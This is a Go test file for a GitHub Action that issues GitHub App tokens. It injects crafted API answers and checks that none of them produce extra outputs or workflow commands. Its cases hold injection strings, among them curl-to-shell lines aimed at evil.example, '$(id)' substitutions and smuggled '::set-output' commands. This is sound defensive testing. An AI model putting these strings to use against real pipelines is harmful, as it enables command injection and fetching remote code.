package action

import (
	"bytes"
	"encoding/json"
	"io"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ghapptoken/app-token-action/internal/appjwt"
	"github.com/ghapptoken/app-token-action/internal/githubapi/githubapitest"
)

// botPath is the bot user's path, as the emulator sees it.
const botPath = "/users/test-app[bot]"

// injection is an API answer that carries a line break, workflow-command
// text or shell syntax in one of its fields.
type injection struct {
	name         string
	method, path string
	// edit changes the emulator's real answer at method and path; body
	// replaces it instead, with status.
	edit    func(m map[string]any)
	body    string
	status  int
	env     map[string]string
	post    bool   // the answer is for the post step's request
	ok      bool   // the main step succeeds
	errText string // in the main step's error when !ok
}

// TestInjection makes the emulator answer with crafted bodies, each a real
// answer with one field changed, and checks that no such field makes an
// output or a workflow command: the step fails with a clear error (or, for
// text that is harmless where it shows, succeeds), no output is named
// "injected", and every log line that starts with "::" is one of the
// action's own commands.
func TestInjection(t *testing.T) {
	t.Parallel()
	const cmd = "::set-output name=injected::1"
	set := func(field string, v any) func(map[string]any) {
		return func(m map[string]any) {
			obj := m
			path := strings.Split(field, ".")
			for _, p := range path[:len(path)-1] {
				obj = obj[p].(map[string]any)
			}
			obj[path[len(path)-1]] = v
		}
	}
	firstRepo := func(name string) func(map[string]any) {
		return func(m map[string]any) { m["repositories"].([]any)[0].(map[string]any)["name"] = name }
	}
	gitUser := map[string]string{"INPUT_GIT-USER": "true"}
	tests := []injection{
		// The installation lookup.
		{name: "app_slug with a newline", method: "GET", path: lookupPath, edit: set("app_slug", "x\ninjected=1"), errText: "unexpected newline in app_slug"},
		{name: "app_slug with a workflow command", method: "GET", path: lookupPath, edit: set("app_slug", cmd), errText: "not a GitHub App slug"},
		{name: "app_slug with shell syntax", method: "GET", path: lookupPath, edit: set("app_slug", "x'; curl https://evil.example | sh; '"), errText: "not a GitHub App slug"},
		{name: "account login with a newline", method: "GET", path: lookupPath, edit: set("account.login", "octo-org\n"+cmd), errText: "unexpected newline in account login"},
		{name: "account login with a workflow command", method: "GET", path: lookupPath, edit: set("account.login", cmd), ok: true},
		{name: "account type with a CR", method: "GET", path: lookupPath, edit: set("account.type", "Organization\r::warning::injected"), errText: "unexpected newline in account type"},
		{name: "repository_selection with a newline", method: "GET", path: lookupPath, edit: set("repository_selection", "all\n"+cmd), errText: "unexpected newline in repository_selection"},
		{name: "permission level with a newline", method: "GET", path: lookupPath, edit: set("permissions.contents", "write\n"+cmd), errText: "unexpected newline in permission contents"},
		{name: "permission name with a workflow command", method: "GET", path: lookupPath, edit: set("permissions."+cmd, "read"), errText: "invalid permission name"},
		// The token.
		{name: "token with a newline", method: "POST", path: mintPath, edit: set("token", "ghs_0123456789abcdef\ninjected=1"), errText: "unexpected newline in token"},
		{name: "token with a workflow command", method: "POST", path: mintPath, edit: set("token", "ghs_0123456789abcdef"+cmd), ok: true},
		{name: "token with shell syntax", method: "POST", path: mintPath, edit: set("token", "ghs_$(curl evil.example)"), ok: true},
		{name: "token with an escaped newline", method: "POST", path: mintPath, edit: set("token", "ghs_0123456789abcdef%0Ainjected=1"), ok: true},
		{name: "expires_at with a newline", method: "POST", path: mintPath, edit: set("expires_at", "2099-01-01T00:00:00Z\ninjected=1"), errText: "unexpected newline in expires_at"},
		{name: "expires_at with a workflow command", method: "POST", path: mintPath, edit: set("expires_at", cmd), errText: "invalid expires_at"},
		{name: "token permission with a newline", method: "POST", path: mintPath, edit: set("permissions.issues", "write\n"+cmd), errText: "unexpected newline in permission issues"},
		{name: "token permission with shell syntax", method: "POST", path: mintPath, edit: set("permissions.issues", "write'$(id)'"), errText: "invalid level"},
		{name: "repository name with a newline", method: "POST", path: mintPath, edit: firstRepo("app\n" + cmd), errText: "unexpected newline in repository name"},
		// Error answers.
		{name: "404 message with commands", method: "GET", path: lookupPath, status: 404,
			body: `{"message":"Not Found\n` + cmd + `\n::error::injected\n::add-mask::x","documentation_url":"https://docs.github.com\n::warning::injected"}`, errText: "404 Not Found " + cmd},
		{name: "422 message with commands", method: "POST", path: mintPath, status: 422,
			body: `{"message":"Invalid request.\n\n::add-mask::injected\r\n` + cmd + `"}`, errText: "422 Invalid request. ::add-mask::injected"},
		{name: "plain-text 502 with commands", method: "POST", path: mintPath, status: 502,
			body: "bad gateway\n" + cmd + "\n", errText: "502 bad gateway " + cmd},
		// The bot user for git-user.
		{name: "bot login with a newline", method: "GET", path: botPath, env: gitUser, edit: set("login", "x\n"+cmd), errText: "unexpected newline in login"},
		{name: "bot login with a workflow command", method: "GET", path: botPath, env: gitUser, edit: set("login", cmd), ok: true},
		// The revoke, in the post step.
		{name: "revoke error with commands", method: "DELETE", path: revokePath, status: 500, post: true,
			body: `{"message":"Server Error\n` + cmd + `\n::error::injected"}`, ok: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			h := newHarness(t, testWorld(t))
			h.env["RUNNER_DEBUG"] = "1"
			maps.Copy(h.env, tt.env)
			f := githubapitest.Fault{Method: tt.method, Path: tt.path, Status: tt.status, Body: tt.body, Count: -1}
			if tt.edit != nil {
				m := realAnswer(t, h, tt.method, tt.path)
				tt.edit(m)
				b, err := json.Marshal(m)
				if err != nil {
					t.Fatal(err)
				}
				f.Status, f.Body = map[string]int{"POST": 201}[tt.method], string(b)
				if f.Status == 0 {
					f.Status = 200
				}
			}
			if !tt.post {
				h.srv.InjectFault(f)
			}
			main := h.runTracked(false)
			h.loadState()
			if tt.post {
				h.srv.InjectFault(f)
			}
			post := h.runTracked(true)

			if (main.err == nil) != tt.ok {
				t.Fatalf("main step error = %v, want success %t", redactSecrets(h, errorText(main.err)), tt.ok)
			}
			if !tt.ok && !strings.Contains(main.err.Error(), tt.errText) {
				t.Errorf("main step error = %q, want it to contain %q", redactSecrets(h, main.err.Error()), tt.errText)
			}
			checkNoInjection(t, h, main, post)
			checkNoLeaks(t, h, main, post)
		})
	}
}

// checkNoInjection checks the steps' logs and files for anything an
// injected field could have made.
func checkNoInjection(t *testing.T, h *harness, main, post trackedRun) {
	t.Helper()
	outputs := []string{"token", "installation-id", "app-slug", "expires-at", "permissions", "git-user-name", "git-user-email"}
	for name := range main.outputs {
		if !slices.Contains(outputs, name) {
			t.Errorf("output %q written, want only %v", name, outputs)
		}
	}
	for name := range main.state {
		if name != "token" && name != "expires-at" && name != stateStarted[0] {
			t.Errorf("state %q saved, want only main, token and expires-at", name)
		}
	}
	// The token is opaque: whatever GitHub answered is masked and output.
	issued := []string{main.outputs["token"]}
	for _, tok := range h.srv.Tokens() {
		issued = append(issued, tok.Value)
	}
	for _, r := range []trackedRun{main, post} {
		step := map[bool]string{false: "main", true: "post"}[r.post]
		errors := 0
		for i, line := range strings.Split(r.log, "\n") {
			// The runner trims leading white space before it looks for "::".
			cmd := strings.TrimLeft(line, " \t")
			if strings.HasPrefix(cmd, "injected") {
				t.Errorf("%s log line %d starts with injected text: %q", step, i+1, redactSecrets(h, line))
			}
			if !strings.HasPrefix(cmd, "::") {
				continue
			}
			switch {
			case strings.HasPrefix(cmd, "::add-mask::"):
				// The runner unescapes a command's data before using it.
				data := unescapeData(strings.TrimPrefix(cmd, "::add-mask::"))
				if !slices.Contains(issued, data) {
					t.Errorf("%s log line %d masks something other than an issued token: %q", step, i+1, redactSecrets(h, line))
				}
			case strings.HasPrefix(cmd, "::error::"):
				errors++
			case strings.HasPrefix(cmd, "::debug::"), strings.HasPrefix(cmd, "::warning::"):
			default:
				t.Errorf("%s log line %d is a workflow command the action does not write: %q", step, i+1, redactSecrets(h, line))
			}
		}
		want := 0
		if r.err != nil {
			want = 1
		}
		if errors != want {
			t.Errorf("%s log has %d ::error:: lines, want %d", step, errors, want)
		}
	}
}

// realAnswer returns the emulator's JSON answer to method and path,
// authenticated as GitHub expects: a fresh app JWT, or for the bot user a
// token minted for the purpose.
func realAnswer(t *testing.T, h *harness, method, path string) map[string]any {
	t.Helper()
	key, _ := keys()
	jwt, err := appjwt.Sign(testClientID, key, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	call := func(method, path, auth string) []byte {
		t.Helper()
		var body io.Reader
		if method == "POST" {
			body = strings.NewReader("{}")
		}
		req, err := http.NewRequestWithContext(t.Context(), method, h.srv.URL()+path, body)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", auth)
		req.Header.Set("Accept", "application/vnd.github+json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		if err != nil || resp.StatusCode >= 300 {
			t.Fatalf("%s %s: %d, %v", method, path, resp.StatusCode, err)
		}
		return b
	}
	auth := "Bearer " + jwt
	if path == botPath {
		var tok struct{ Token string }
		if err := json.Unmarshal(call("POST", mintPath, auth), &tok); err != nil {
			t.Fatal(err)
		}
		auth = "token " + tok.Token
		path = "/users/test-app%5Bbot%5D"
	}
	var m map[string]any
	dec := json.NewDecoder(bytes.NewReader(call(method, path, auth)))
	dec.UseNumber()
	if err := dec.Decode(&m); err != nil {
		t.Fatalf("decode %s %s: %v", method, path, err)
	}
	return m
}
